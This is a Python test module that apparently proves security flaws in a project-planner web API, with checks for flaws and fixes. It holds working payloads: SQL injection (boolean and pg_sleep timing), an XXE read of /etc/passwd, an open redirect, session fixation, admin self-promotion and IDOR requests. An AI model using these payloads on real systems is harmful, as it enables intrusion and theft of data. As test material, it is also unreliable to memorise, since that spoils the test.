"""The planner's flaws, proved by hand."""
import time
from urllib.parse import quote

from .kit import Proofs, takes

PROOFS = Proofs()
flaw, trap = PROOFS.flaw, PROOFS.trap
A, B, ROSA = ("timo", "Whiteboard-Marker-9"), ("vera", "Yellow.Sticky.Notes"), ("rosa", "Gantt!Chart!2020")
ACME = "/orgs/acme/projects"


def give(**attributes):
    return {"data": {"type": "x", "attributes": attributes}}


def login(s, who=A, **headers):
    for _ in range(12):  # the proof of the limit uses the window up
        got = s.post("/login", give(login=who[0], password=who[1]), headers=headers)
        if got.status != 429:
            break
        time.sleep(1)
    return got.headers["Set-Cookie"].split(";")[0]


def cookie(s, who=A):
    return {"Cookie": s.keep(who, lambda: login(s, who))}


def project(s):
    name = f"proof {time.monotonic_ns()}"
    return ACME + "/" + s.post(ACME, give(name=name), headers=cookie(s)).json["data"]["id"]


def tasks(s, query="", who=A):
    return s.get(f"{ACME}/rocket/tasks{query}", headers=cookie(s, who))


@flaw("foreign-project")
def _(s):
    return s.get(ACME + "/rocket", headers=cookie(s, B)).status == 200


@flaw("foreign-task")
def _(s):
    s.call("PATCH", ACME + "/rocket/tasks/3", give(title="by vera"), headers=cookie(s, B))
    return s.get(ACME + "/rocket/tasks/3", headers=cookie(s)).json["data"]["attributes"]["title"] == "by vera"


@flaw("foreign-delete")
def _(s):
    path = project(s)
    s.call("DELETE", path, headers=cookie(s, B))
    return s.get(path, headers=cookie(s)).status == 404


@flaw("promote-self")
def _(s):
    def admin():
        return s.get("/session", headers=cookie(s, B)).json["data"]["attributes"]["admin"]
    s.call("PATCH", "/session", give(admin=True), headers=cookie(s, B))
    promoted = admin()
    s.call("PATCH", "/session", give(admin=False), headers=cookie(s, B))
    return promoted and not admin()


@flaw("approve-own")
def _(s):
    return s.post(ACME + "/rocket/tasks", give(title="t", approved=True), headers=cookie(s)).json["data"]["attributes"]["approved"]


@flaw("included-users")
def _(s):
    return "digest" in s.get("/orgs/acme/members", headers=cookie(s)).text


@flaw("sort-sql")
def _(s):
    return "OperationalError" in tasks(s, "?sort=id%27").text


@flaw("filter-sql")
def _(s):
    yes, no = (tasks(s, "?filter[status]=" + quote(f"open' and '1'='{n}")).json.get("data") for n in (1, 2))
    return bool(yes) and no == []


@flaw("locale-sql")
def _(s):
    def wait(n):
        return s.call("PUT", "/session/locale", give(locale=f"en' || pg_sleep({n}) || '"), headers=cookie(s))
    return takes(lambda: wait(1), lambda: wait(0), 1)


@flaw("next-slashes")
def _(s):
    return s.get("/go?next=//evil.example").headers["Location"].endswith("//evil.example")


@flaw("method-param")
def _(s):
    path = project(s)
    s.get(path + "?_method=DELETE", headers=cookie(s, B))
    return s.get(path, headers=cookie(s)).status == 404


@flaw("cookie-bare")
def _(s):
    got = s.post("/login", give(login=A[0], password=A[1])).headers
    return "X-Content-Type-Options" not in got and "HttpOnly" not in got["Set-Cookie"]


@flaw("cookie-kept")
def _(s):
    s.post("/login", give(login=A[0], password=A[1]), headers={"Cookie": "planner_sid=chosen-by-us"})
    return s.get("/session", headers={"Cookie": "planner_sid=chosen-by-us"}).status == 200


@flaw("logout-shallow")
def _(s):
    mine = {"Cookie": login(s)}
    s.post("/logout", headers=mine)
    return s.get("/session", headers=mine).status == 200


@flaw("import-entities")
def _(s):
    xml = '<!DOCTYPE t [<!ENTITY e SYSTEM "file:///etc/passwd">]><tasks><task>&e;</task></tasks>'
    return "root:" in s.call("POST", ACME + "/rocket/import", body=xml, headers={**cookie(s), "Content-Type": "application/xml"}).text


@flaw("page-size")
def _(s):
    return len(tasks(s, "?page[size]=100000").json["data"]) > 120


@flaw("error-pages")
def _(s):
    return "Traceback" in tasks(s, "?page[size]=many").text


@flaw("login-endless")
def _(s):
    for who in (A, B, ROSA):
        cookie(s, who)  # before the window is used up
    return 429 not in [s.post("/login", give(login="nobody", password="x")).status for _ in range(35)]


@flaw("users-open")
def _(s):
    return s.get("/admin/users", headers=cookie(s)).status == 200


@flaw("board-open")
def _(s):
    return s.get(ACME + "/rocket/tasks").status == 200


@flaw("body-endless")
def _(s):
    xml = "<tasks>" + "<t/>" * 500_000 + "</tasks>"
    return s.call("POST", ACME + "/rocket/import", body=xml, headers=cookie(s)).status == 201


@flaw("any-origin")
def _(s):
    return s.get("/session", headers={"Origin": "https://evil.example"}).headers["Access-Control-Allow-Origin"] == "https://evil.example"


@trap("form-token")
def _(s):
    token = s.get("/form-token").json["token"]
    return s.get("/session", token=token).status == 401


@trap("if-match")
def _(s):
    path = project(s)
    return [s.call("PATCH", path, give(name="x"), headers={**cookie(s), **more}).status
            for more in ({}, {"If-Match": '"v9"'}, {"If-Match": '"v1"'})] == [428, 412, 200]


@trap("admin-ignored")
def _(s):
    got = s.call("PATCH", "/session", give(name="Timo", login="boss"), headers=cookie(s))
    return got.status == 200 and got.json["data"]["id"] == "timo"


@trap("login-thirty")
def _(s):
    return 429 not in [s.get("/session", headers=cookie(s)).status for _ in range(40)]


@trap("same-organisation")
def _(s):
    return s.get(ACME + "/rocket/tasks/5", headers=cookie(s)).text == s.get(ACME + "/rocket/tasks/5", headers=cookie(s, ROSA)).text


@trap("sort-refused")
def _(s):
    return tasks(s, "?filter[status]=%27").json["data"] == tasks(s, "?filter[status]=nothing").json["data"] == []


@trap("go-inside")
def _(s):
    return s.get("/go?next=https://evil.example").headers["Location"] == "/"


@trap("odd-size-500")
def _(s):
    return tasks(s, "?page[size]=many").status == 500
